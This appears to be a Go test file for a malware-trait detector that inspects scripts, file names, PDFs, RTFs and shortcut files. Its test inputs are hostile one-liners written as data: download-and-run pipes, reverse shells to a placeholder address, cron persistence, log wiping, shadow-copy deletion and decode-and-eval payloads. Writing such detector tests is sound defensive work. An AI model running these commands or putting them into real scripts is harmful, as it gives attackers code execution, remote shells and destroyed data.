package facts

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// ids returns the facts of content, sorted.
func ids(t *testing.T, content []byte, name string) []string {
	t.Helper()
	f, err := Look(bytes.NewReader(content), int64(len(content)), name)
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	for _, fact := range f.Facts {
		found = append(found, fact.ID)
		if _, ok := Lookup(fact.ID); !ok {
			t.Errorf("the fact %q is not in the catalogue", fact.ID)
		}
	}
	slices.Sort(found)
	return found
}

// The texts are put together from pieces where a virus scanner might take this file for what it tests.
func TestScripts(t *testing.T) {
	tests := []struct {
		name, file, text string
		want             []string
	}{
		{"curl into a shell", "a.sh", "#!/bin/sh\ncurl -fsSL http://192.0.2.1/x | sudo bash\n", []string{"script-fetches-runs"}},
		{"wget into python", "a.sh", "#!/bin/sh\nwget -qO- http://192.0.2.1/x | python3 -\n", []string{"script-fetches-runs"}},
		{"fetched then started", "a.sh", "#!/bin/sh\ncd /tmp\nwget -q http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x &\n", []string{"script-fetches-runs"}},
		{"substituted", "a.sh", "#!/bin/bash\nbash -c \"$(curl -s http://192.0.2.1)\"\n", []string{"script-fetches-runs"}},
		{"decoded into a shell", "a.sh", "#!/bin/sh\necho aGkK | base64 -d | sh\n", []string{"script-decodes-runs"}},
		{"reverse shell", "a.sh", "#!/bin/bash\nbash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1\n", []string{"script-reverse-shell"}},
		{"reverse shell by descriptor", "a.sh", "#!/bin/bash\nexec 5<>/dev/" + "tcp/192.0.2.1/4444\nsh <&5 >&5 2>&5\n", []string{"script-reverse-shell"}},
		{"persistence", "a.sh", "#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\necho x >> ~/.bashrc\n", []string{"script-persists"}},
		{"traces", "a.sh", "#!/bin/bash\nunset HISTFILE\nrm -f /var/log/wtmp\n", []string{"script-hides-traces"}},
		{"powershell", "a.ps1", "IEX (New-Object Net.WebClient).Download" + "String('http://192.0.2.1/a')", []string{"script-fetches-runs"}},
		{"encoded command", "a.bat", "@echo off\r\npowershell -w hidden -enc " + strings.Repeat("QUJD", 20) + "\r\n", []string{"script-encoded-command", "script-hides-window"}},
		{"shadow copies", "a.bat", "@echo off\r\nvss" + "admin delete shadows /all /quiet\r\n", []string{"script-destroys"}},
		{"python", "a.py", "import base64\nexec(base64.b64decode('cHJpbnQoKQ=='))\n", []string{"script-decodes-runs"}},
		{"php", "a.php", "<?php eval(gzinflate(base64_" + "decode('eJw=')));", []string{"script-decodes-runs"}},
		{"vbs", "a.vbs", "On Error Resume Next\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"x.exe\"\r\nCreateObject(\"WScript.Shell\").Run \"x.exe\"\r\n", []string{"script-fetches-runs"}},
		{"blob", "a.sh", "#!/bin/sh\nX=" + strings.Repeat("QUJD", 400) + "\n", []string{"script-base64-blob"}},

		{"only fetches", "a.sh", "#!/bin/sh\ncurl -o /tmp/list.txt http://192.0.2.1/list.txt\nsort /tmp/list.txt\n", nil},
		{"waits for a port", "a.sh", "#!/bin/bash\nuntil (exec 3<>/dev/" + "tcp/db/5432) 2>/dev/null; do sleep 1; done\n", nil},
		{"only a comment", "a.sh", "#!/bin/sh\n# install with: curl http://192.0.2.1 | sh\necho\n", nil},
		{"in prose", "README.md", "Install it:\n\n    curl http://192.0.2.1 | sh\n", nil},
		{"decodes into a file", "a.sh", "#!/bin/sh\nbase64 -d < a > b\n", nil},
		{"crontab is listed", "a.sh", "#!/bin/sh\ncrontab -l\n", nil},
		{"hashes", "a.sh", "#!/bin/sh\nsha256sum -c <<E\n" + strings.Repeat(strings.Repeat("ab", 32)+"  file\n", 30) + "E\n", nil},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if diff := cmp.Diff(test.want, ids(t, []byte(test.text), test.file)); diff != "" {
				t.Errorf("facts (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("utf 16", func(t *testing.T) {
		text := []byte{0xff, 0xfe}
		for _, u := range utf16.Encode([]rune("IEX (New-Object Net.WebClient).Download" + "String('http://192.0.2.1/a')")) {
			text = append(text, byte(u), byte(u>>8))
		}
		if diff := cmp.Diff([]string{"script-fetches-runs"}, ids(t, text, "a.ps1")); diff != "" {
			t.Errorf("facts (-want +got):\n%s", diff)
		}
	})
}

func TestNames(t *testing.T) {
	exe := append([]byte("MZ\x90\x00\x03"), make([]byte, 100)...)
	for name, want := range map[string][]string{
		"invoice.pdf.exe": {"name-double-extension"},
		"photo.jpg":       {"name-hides-program"},
		"setup.exe":       nil,
		"setup.1.2.exe":   nil,
		"":                nil,
	} {
		if diff := cmp.Diff(want, ids(t, exe, name)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", name, diff)
		}
	}
}

func TestDocuments(t *testing.T) {
	lnk := append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00F"), make([]byte, 60)...)
	for _, u := range utf16.Encode([]rune(`C:\Windows\System32\cmd.exe /c ` + strings.Repeat(" ", 60) + `mshta http://192.0.2.1/x.hta`)) {
		lnk = append(lnk, byte(u), byte(u>>8))
	}
	tests := []struct {
		name    string
		content string
		want    []string
	}{
		{"pdf", "%PDF-1.4\n1 0 obj <</OpenAction 2 0 R /Pages 3 0 R>>\n2 0 obj <</S /JavaScript /JS (app.alert)>>\n", []string{"pdf-script", "pdf-script-starts"}},
		{"pdf with hidden names", "%PDF-1.4\n2 0 obj <</S /J#61vaScript>>\n", []string{"pdf-hidden-names", "pdf-script"}},
		{"pdf that launches", "%PDF-1.4\n2 0 obj <</S /Launch /F (cmd.exe)>>\n", []string{"pdf-launches"}},
		{"harmless pdf", "%PDF-1.4\n1 0 obj <</Type /Catalog /AAPL 3 /JSON 4 /Launchpad 5>>\n", nil},
		{"rtf", `{\rtf1{\object\objemb\objupdate{\*\objdata 0105000002000000` + " 4571 7561\n7469{}6f6e2e33" + `00}}}`, []string{"rtf-equation", "rtf-object-runs"}},
		{"harmless rtf", `{\rtf1 Equation.3 \b hi}`, nil},
		{"shortcut", string(lnk), []string{"lnk-fetches", "lnk-hidden-arguments", "lnk-runs-interpreter", "script-fetches-runs"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if diff := cmp.Diff(test.want, ids(t, []byte(test.content), "x")); diff != "" {
				t.Errorf("facts (-want +got):\n%s", diff)
			}
		})
	}
}

// Content that is nothing must cost nothing: no fact, no error.
func TestNoise(t *testing.T) {
	random := rand.New(rand.NewChaCha8([32]byte{1}))
	for _, size := range []int{0, 1, 100, 100_000} {
		content := make([]byte, size)
		for i := range content {
			content[i] = byte(random.Uint32())
		}
		if found := ids(t, content, "x.bin"); found != nil {
			t.Errorf("%d random bytes have the facts %v", size, found)
		}
	}
}

func TestEntropy(t *testing.T) {
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	for name, test := range map[string]struct {
		data []byte
		want float64
	}{"nothing": {nil, 0}, "one byte": {[]byte("aaaa"), 0}, "two": {[]byte("abab"), 1}, "all": {all, 8}} {
		if got := entropy(test.data); got != test.want {
			t.Errorf("%s: %v, want %v", name, got, test.want)
		}
	}
}

// Whatever a file holds, looking at it ends, and what it yields can be shown.
func FuzzLook(f *testing.F) {
	f.Add([]byte("%PDF-1.4 /J#53"), "a.pdf")
	f.Add([]byte("#!/bin/sh\ncurl x | sh"), "a.sh")
	f.Add([]byte("\x7fELF\x02\x01\x01"), "")
	f.Add([]byte("MZ"), "a.exe")
	f.Add(pe64([]section{{name: "UPX0", flags: sectionExecute | sectionWrite}}, nil, 0x1000), "a.exe")
	f.Add([]byte("L\x00\x00\x00\x01\x14\x02\x00"), "a.lnk")
	f.Add([]byte(`{\rtf1{\objdata 01`), "a.rtf")
	f.Add(oleOf(specification[0].packed), "a.doc")
	f.Fuzz(func(t *testing.T, content []byte, name string) {
		got, err := Look(bytes.NewReader(content), int64(len(content)), name)
		if err != nil {
			t.Fatal(err)
		}
		if len(got.Facts) > MaxFacts {
			t.Errorf("%d facts", len(got.Facts))
		}
		for _, fact := range got.Facts {
			if _, ok := Lookup(fact.ID); !ok || len(fact.Evidence) > MaxEvidence {
				t.Errorf("%+v", fact)
			}
			for _, e := range fact.Evidence {
				if strings.ContainsAny(e, "\n\x1b\x00") || len([]rune(e)) > maxPiece+1 {
					t.Errorf("evidence %q", e)
				}
			}
		}
	})
}
